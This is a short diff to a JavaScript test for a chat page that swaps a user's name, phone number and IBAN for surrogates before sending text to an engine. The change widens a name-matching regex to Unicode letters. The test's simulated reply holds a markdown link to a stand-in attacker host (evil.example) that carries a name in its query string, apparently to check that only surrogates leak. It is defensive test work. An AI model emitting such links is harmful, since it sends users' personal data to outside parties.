@@ -24,7 +24,7 @@ test('the engine is told surrogates, the page keeps and shows what a person wrot
   const asked = await say(SAID);
   clean(asked);
   const [sent] = asked.messages.map((/** @type {any} */ { content }) => content);
-  assert.match(sent, /^Write to \w+ \w+, \+49 [\d ]+, DE\d\d [\d ]+\.$/);
+  assert.match(sent, /^Write to \p{L}+ \p{L}+, \+49 [\d ]+, DE\d\d [\d ]+\.$/u);
   assert.equal(chat().nodes.m1.content, SAID);
   const [, name, phone, iban] = /** @type {RegExpExecArray} */ (/to (.*), (\+.*), (DE.*)\./.exec(sent));
   await answer(`I wrote to ${name} (${phone}) about ${iban}. See [${name}](https://evil.example/?q=${name.split(' ')[0]}).`);
